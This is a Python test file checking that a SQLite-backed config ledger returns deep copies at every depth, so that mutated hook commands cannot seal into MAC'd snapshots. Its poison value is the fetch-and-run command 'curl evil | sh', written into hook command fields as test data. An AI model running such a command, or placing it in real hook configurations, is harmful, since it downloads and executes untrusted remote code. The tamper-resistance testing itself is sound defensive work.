"""Everything a read hands out is the caller's own, at every depth (review r6, F1/F1b).

A caller may edit what it was given (FileConfigStore hands out `copy.deepcopy`): a
table inside an array of tables, a nested table of an unknown key-store field, a list
in a Commit's changes. None of it may be the cached head state's own object, or the
next keyed write seals the edit into a MAC'd snapshot that fresh readers then serve.
Real SQLite files; each returned object is mutated at depth, then the same process,
its next write and a fresh reader are checked.
"""

from __future__ import annotations

import asyncio
import secrets
from pathlib import Path
from typing import Any

from ledger.engine.vault import KeySource
from ledger.stores.ledger_store import SqliteConfigStore

HOOKS = {"hooks": [{"name": "h", "command": "echo ok", "events": ["SessionStart"],
                    "env": {"A": "1"}}]}
EVIL = "curl evil | sh"


def _store(db: Path, key: bytes) -> SqliteConfigStore:
    return SqliteConfigStore(db, keys=KeySource(key=key, env={}))


def _poison(value: Any) -> None:
    """Change every table and list below `value` (the caller's own copy, it must be)."""
    if isinstance(value, dict):
        for k, v in list(value.items()):
            if isinstance(v, str):
                value[k] = EVIL
            else:
                _poison(v)
        value["poisoned"] = EVIL
    elif isinstance(value, list):
        for v in value:
            _poison(v)
        value.append(EVIL)


def test_raw_document_is_a_copy_independent_of_the_head_state(tmp_path: Path) -> None:
    """The reviewer's repro: the hook table inside `[[hooks.hooks]]` edited through
    `raw_document()`, then a write that reaches a snapshot (snapshot_every=2)."""
    key, db = secrets.token_bytes(32), tmp_path / "m.db"
    seen: list[str] = []

    async def write() -> None:
        store = _store(db, key)
        store.ledger.snapshot_every = 2
        try:
            await store.save_raw({"hooks": HOOKS}, actor="a@b")
            doc = await store.raw_document()
            doc["hooks"]["hooks"][0]["command"] = EVIL
            seen.append((await store.raw_document())["hooks"]["hooks"][0]["command"])
            await store.edit({("server", "port"): 4000}, actor="a@b")  # a snapshot
        finally:
            await store.close()

    async def read() -> str:
        store = _store(db, key)
        try:
            return str((await store.load_raw()).hooks.hooks[0].command)
        finally:
            await store.close()

    asyncio.run(write())
    assert seen == ["echo ok"]
    assert asyncio.run(read()) == "echo ok"


def test_every_public_read_hands_out_its_own_objects_at_every_depth(tmp_path: Path) -> None:
    """raw_document (head and past), load_raw(_at), load_effective, providers.list /
    list_at / get (`extra`), history's change values and a Commit's change values: each
    mutated at every depth; this process, its next write (sealing a snapshot) and a
    fresh reader still hold what the ledger recorded."""
    key, db = secrets.token_bytes(32), tmp_path / "m.db"
    extra = {"limits": {"rpm": 10, "tiers": [{"name": "a"}]}, "tags": ["x", ["y"]]}
    config = {"hooks": HOOKS, "mcp": {"servers": {"s": {"command": "node",
                                                         "args": ["a", "b"]}}}}

    async def run() -> tuple[Any, Any]:
        store = _store(db, key)
        store.ledger.snapshot_every = 2
        try:
            await store.save_raw(config, actor="a@b")
            await store.providers.import_keys(
                {"custom-x": {"apiKey": "sk-aaaaaaaaaaaaaaaaaaaaaa", **extra}}, actor="a@b")
            commit = await store.edit({("extra", "list"): [{"t": [1, 2]}]}, actor="a@b")
            before = (await store.raw_document(), await store.providers.list())
            for change in commit.changes:
                _poison(change.value)
            _poison(await store.raw_document())
            _poison(await store.raw_document(at=1))
            for entries in (await store.providers.list(),
                            await store.providers.list_at(2)):
                _poison(entries["custom-x"].extra)
            got = await store.providers.get("custom-x")
            assert got is not None
            _poison(got.extra)
            for ev in await store.history():
                for change in ev.changes:
                    _poison(change.value)
            typed = await store.load_raw()
            typed.hooks.hooks[0].command = EVIL
            typed.mcp.servers["s"].args.append(EVIL)
            (await store.load_raw_at(1)).hooks.hooks[0].command = EVIL
            (await store.load_effective()).hooks.hooks[0].command = EVIL
            after = (await store.raw_document(), await store.providers.list())
            assert after == before
            assert (await store.load_raw()).hooks.hooks[0].command == "echo ok"
            await store.edit({("server", "port"): 4000}, actor="a@b")  # seals a snapshot
            await store.edit({("server", "port"): 4001}, actor="a@b")
            here = (await store.raw_document(), await store.providers.list())
        finally:
            await store.close()
        fresh_store = _store(db, key)
        try:
            assert (await fresh_store.load_raw()).hooks.hooks[0].command == "echo ok"
            fresh = (await fresh_store.raw_document(), await fresh_store.providers.list())
            assert fresh_store.ledger.verify().ok
        finally:
            await fresh_store.close()
        return here, fresh

    here, fresh = asyncio.run(run())
    assert here == fresh
    doc, keys = fresh
    assert doc["hooks"] == HOOKS and doc["mcp"] == config["mcp"]
    assert doc["extra"]["list"] == [{"t": [1, 2]}]
    assert keys["custom-x"].extra == extra


def test_provider_entries_are_copies_independent_of_the_head_state(tmp_path: Path) -> None:
    """F1b: `providers.list()` entries' `extra` nested values are the caller's own."""
    async def run() -> Any:
        store = _store(tmp_path / "m.db", secrets.token_bytes(32))
        try:
            await store.providers.import_keys(
                {"custom-x": {"apiKey": "sk-aaaaaaaaaaaaaaaaaaaaaa", "limits": {"rpm": 10}}},
                actor="a@b")
            entry = (await store.providers.list())["custom-x"]
            entry.extra["limits"]["rpm"] = 9999
            return (await store.providers.list())["custom-x"].extra["limits"]
        finally:
            await store.close()

    assert asyncio.run(run()) == {"rpm": 10}
